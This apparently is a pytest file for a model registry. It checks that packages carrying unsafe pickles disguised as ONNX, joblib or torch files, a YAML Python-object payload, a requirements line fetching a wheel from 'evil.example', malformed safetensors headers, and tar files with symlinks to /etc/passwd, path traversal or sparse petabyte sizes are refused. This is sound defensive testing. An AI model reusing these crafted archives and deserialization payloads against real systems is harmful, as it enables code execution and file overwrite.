"""Packages made to run something, to be read elsewhere or to cost too much: nothing of them is kept.

Each is offered as the very bytes that a signed run names, so that what is in it is all that can be wrong with it.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from assay.contracts import FactKind
from assay.custody import Content, from_tar, package_digest, read_folder
from assay.custody.card import read_card
from assay.custody.errors import LinkRefused, PackageRefused, PackageTooLarge
from assay.custody.package import PackageFiles
from services.registry.errors import UnknownPackage
from tests.unit.custody.graphs import graph, package
from tests.unit.custody.world import World
from tests.unit.registry.desk import Desk

Files = dict[str, bytes]
RAN: list[str] = []


def ran(what: str) -> None:
    RAN.append(what)


class Runs:
    """What a loader that unpickles would run."""

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return ran, ("ran",)


PICKLE = pickle.dumps(Runs())


def zipped(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, PICKLE)
    return buffer.getvalue()


def safetensors(header: dict[str, Any] | bytes, body: bytes = b"") -> bytes:
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(data).to_bytes(8, "little") + data + body


def tensor(begin: object, end: object, **more: object) -> dict[str, Any]:
    return {"dtype": "F32", "shape": [1], "data_offsets": [begin, end], **more}


FOUR, EIGHT = bytes(4), bytes(8)
PICKLES: dict[str, Files] = {
    "a pickle as the graph": {"model.onnx": PICKLE},
    "a pickle as another graph": {"other.onnx": PICKLE},
    "a pickle as the readme": {"README.md": PICKLE},
    "a pickle as an example": {"input_example.json": PICKLE},
    "a pickle as tensors": {"w.safetensors": PICKLE},
    "a pickle of the first protocol as an example": {"input_example.json": pickle.dumps(Runs(), protocol=0)},
    "torch's archive as the graph": {"model.onnx": zipped("archive/data.pkl")},
    "a pickle by its name": {"model.pkl": PICKLE},
    "joblib": {"model.joblib": PICKLE},
    "weights of torch": {"weights.pt": zipped("archive/data.pkl")},
    "an array with objects in it": {"x.npy": b"\x93NUMPY\x01\x00" + PICKLE},
    "Python": {"predict.py": b"import os\n"},
    "Python in a folder": {"code/predict.py": b"import os\n"},
    "compiled Python": {"predict.pyc": b"\xcb\r\r\n"},
    "a path file": {"site.pth": b"import os\n"},
    "Python that MLmodel names": {"MLmodel": b"flavors: {python_function: {loader_module: predict}}\n"},
    "Python that YAML makes": {"MLmodel": b"!!python/object/apply:os.getcwd []\n"},
    "a library": {"README.md": b"\x7fELF\x02"},
    "operators of the loader's": {"model.onnx": graph(domain="ai.evil")},
    "requirements from anywhere": {"requirements.txt": b"evil @ https://evil.example/x.whl\n"},
}
TENSORS: dict[str, Files] = {
    name: {"w.safetensors": data}
    for name, data in {
        "a header without end": (2**63).to_bytes(8, "little") + b"{}",
        "nested without end": safetensors(b'{"a":' * 50_000),
        "a name twice": safetensors(b'{"a":{},"a":{}}'),
        "two in one place": safetensors({"a": tensor(0, 4), "b": tensor(0, 4)}, FOUR),
        "bytes in none": safetensors({"a": tensor(4, 8)}, EIGHT),
        "a pickle after the last": safetensors({"a": tensor(0, 4)}, FOUR + PICKLE),
        "a pickle between": safetensors(
            {"a": tensor(0, 4), "b": tensor(4 + len(PICKLE), 8 + len(PICKLE))}, FOUR + PICKLE + FOUR
        ),
        "before the first byte": safetensors({"a": tensor(-4, 4, shape=[2])}, FOUR),
        "a place in words": safetensors({"a": tensor(0, "4")}, FOUR),
        "a place that is a fraction": safetensors({"a": tensor(0, 4.0)}, FOUR),
        "a place that is a truth value": safetensors({"a": tensor(False, True, shape=[])}, b"x"),
        "larger than its bytes": safetensors({"a": tensor(0, 4, shape=[10**12])}, FOUR),
        "a type nobody knows": safetensors({"a": tensor(0, 4, dtype="PICKLE")}, FOUR),
        "places that do not compare": safetensors({"a": tensor(0, "4"), "b": tensor(0, 4)}, FOUR),
    }.items()
}
ELSEWHERE: dict[str, Files] = {
    "weights outside the graph": {"model.onnx": graph(external=True)},
    "a zip as the graph": {"model.onnx": zipped("model.onnx")},
    "compressed": {"README.md": b"\x1f\x8b\x08"},
    "a name that climbs": {"../model.onnx": graph()},
    "a name from the root": {"/etc/model.onnx": graph()},
    "two names on some disks": {"Model.onnx": graph()},
}


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """One desk for all: each attack is a run of its own on it."""
    folder = tmp_path_factory.mktemp("shop")
    return Desk(World(folder), folder)


def offered(shop: Desk, files: Files) -> str:
    """Have a run name a package with these files in it; return the run."""
    world, run = shop.world, f"run-{len(shop.runs.given)}"
    features = world.feature_set(world.batch(run), name=f"fs-{run}")
    whole = {**package(datasets=(features.digest,)), **files}
    shop.runs.given[run, "epoch-1"] = whole
    world.run(features, {"epoch-1": package_digest(whole)}, run=run)
    return run


def uninspected(files: PackageFiles) -> Content:
    return Content(read_card(files), (), ())


def kept(shop: Desk, files: Files) -> bool:
    """Say whether a package is registered; what is refused has left nothing behind."""
    run, versions = offered(shop, files), len(shop.world.follower.records(FactKind.VERSION))
    try:
        shop.register("epoch-1", run=run)
    except PackageRefused:
        with pytest.raises(UnknownPackage):
            shop.registry.packages.manifest(package_digest(shop.runs.given[run, "epoch-1"]))
        assert len(shop.world.follower.records(FactKind.VERSION)) == versions
        return False
    return True


@pytest.mark.threat("T-DES-01")
@pytest.mark.parametrize("files", PICKLES.values(), ids=PICKLES.keys())
def test_what_a_loader_would_run_is_not_kept(shop: Desk, files: Files) -> None:
    assert not kept(shop, files)
    assert RAN == []


@pytest.mark.threat("T-DES-05")
@pytest.mark.parametrize("files", ELSEWHERE.values(), ids=ELSEWHERE.keys())
def test_what_would_be_read_elsewhere_is_not_kept(shop: Desk, files: Files) -> None:
    assert not kept(shop, files)


@pytest.mark.threat("T-DES-08")
@pytest.mark.parametrize("files", TENSORS.values(), ids=TENSORS.keys())
def test_tensors_are_what_their_header_says_or_are_not_kept(shop: Desk, files: Files) -> None:
    assert not kept(shop, files)


UNINSPECTED = {
    name: files
    for name, files in (PICKLES | TENSORS | ELSEWHERE).items()
    if not any(path.startswith((".", "/")) for path in files) and "Model.onnx" not in files
}


@pytest.mark.control("T-DES-01", "T-DES-05", "T-DES-08")
@pytest.mark.parametrize("files", UNINSPECTED.values(), ids=UNINSPECTED.keys())
def test_control_a_registry_that_does_not_look_inside_keeps_it(
    shop: Desk, files: Files, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shop, "registering", replace(shop.registering, inspect=uninspected))
    assert kept(shop, files)


@pytest.mark.control("T-DES-01", "T-DES-08")
def test_control_what_is_only_data_is_kept_and_a_pickle_does_run(shop: Desk) -> None:
    right = safetensors({"a": tensor(0, 4), "b": tensor(4, 8), "__metadata__": {"by": "us"}}, EIGHT)
    assert kept(shop, {"w.safetensors": right})
    pickle.loads(PICKLE)  # noqa: S301 - our own
    assert RAN.pop() == "ran"


# ---- on the way in: a tar, a folder


def tarred(*entries: tarfile.TarInfo, body: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for entry in entries:
            entry.size = len(body)
            tar.addfile(entry, io.BytesIO(body))
    return buffer.getvalue()


def entry(name: str = "model.onnx", kind: bytes = tarfile.REGTYPE, to: str = "") -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname = kind, to
    made.devmajor, made.devminor = 1, 3
    return made


def headed(**said: str) -> bytes:
    """Return a tar of one file with headers of its own."""
    made = entry()
    made.pax_headers = said
    return tarred(made)


def headers_without_end() -> bytes:
    """Return a tar of two thousand headers, each about the next."""
    one = headed(comment="x")[:1024]
    return one * 2000 + tarred(entry())


SPARSE = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(10**15)}
TARS: dict[str, bytes] = {
    "a link": tarred(entry(kind=tarfile.SYMTYPE, to="/etc/passwd")),
    "a hard link": tarred(entry(kind=tarfile.LNKTYPE, to="../../secret")),
    "a character device": tarred(entry(kind=tarfile.CHRTYPE)),
    "a block device": tarred(entry(kind=tarfile.BLKTYPE)),
    "a pipe": tarred(entry(kind=tarfile.FIFOTYPE)),
    "a folder": tarred(entry(kind=tarfile.DIRTYPE)),
    "a name that climbs": tarred(entry("../outside.onnx")),
    "a long name that climbs": tarred(entry("a/" * 60 + "../" * 70 + "outside.onnx")),
    "a name from the root": tarred(entry("/etc/cron.d/x")),
    "a name in a header of its own": headed(path="../../outside.onnx"),
    "a name with NUL": headed(path="model.onnx\0.json"),
    "one name twice": tarred(entry(), entry()),
    "one name in two cases": tarred(entry(), entry("MODEL.onnx")),
    "a petabyte of holes": headed(**{"GNU.sparse.map": "0,1", "GNU.sparse.size": str(10**15)}),
    "a petabyte by its header": headed(size=str(10**15)),
    "holes that are none": headed(**{"GNU.sparse.map": "a,b"}),
    "holes without a map": headed(**SPARSE),
    "holes of no size": headed(**{"GNU.sparse.size": "x"}),
    "headers without end": headers_without_end(),
    "more files than a package has": tarred(*[entry(f"{n}.json") for n in range(65)]),
    "compressed": b"\x1f\x8b\x08" + bytes(600),
    "cut off": tarred(entry(), body=bytes(4096))[:2000],
}


@pytest.mark.timeout(20)
@pytest.mark.threat("T-DES-05", "T-DES-07")
@pytest.mark.parametrize("data", TARS.values(), ids=TARS.keys())
def test_a_tar_that_is_more_than_files_is_refused_by_name(data: bytes) -> None:
    with pytest.raises((PackageRefused, PackageTooLarge)):
        from_tar(data)


@pytest.mark.control("T-DES-05", "T-DES-07")
@pytest.mark.parametrize("name", ["a link", "a name that climbs", "a name in a header of its own"])
def test_control_a_tar_that_is_simply_unpacked_leaves_its_folder(tmp_path: Path, name: str) -> None:
    inner = tmp_path / "a" / "b"
    inner.mkdir(parents=True)
    with tarfile.open(fileobj=io.BytesIO(TARS[name])) as tar:
        tar.extractall(inner, filter="fully_trusted")  # noqa: S202 - the attack
    assert [*tmp_path.rglob("outside.onnx")] or (inner / "model.onnx").read_bytes().startswith(b"root:")
    assert not (inner / "outside.onnx").exists()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with one plain file in it, and a secret beside it."""
    (tmp_path / "secret").write_bytes(b"s")
    inside = tmp_path / "package"
    inside.mkdir()
    (inside / "model.onnx").write_bytes(b"1")
    return inside


PLANTED: dict[str, Callable[[Path], object]] = {
    "a link": lambda path: path.symlink_to("../secret"),
    "a hard link": lambda path: path.hardlink_to(path.parents[1] / "secret"),
    "a link to a folder": lambda path: path.symlink_to(path.parents[1]),
    "a link to a device": lambda path: path.symlink_to("/dev/zero"),
    "a pipe": os.mkfifo,
}


@pytest.mark.timeout(20)
@pytest.mark.threat("T-DES-05")
@pytest.mark.parametrize("plant", PLANTED.values(), ids=PLANTED.keys())
def test_nothing_but_plain_files_of_its_own_is_read_from_a_folder(
    folder: Path, plant: Callable[[Path], object]
) -> None:
    plant(folder / "planted.json")
    with pytest.raises(LinkRefused):
        read_folder(folder)


@pytest.mark.control("T-DES-05")
def test_control_a_folder_of_plain_files_is_read(folder: Path) -> None:
    assert read_folder(folder) == {"model.onnx": b"1"}
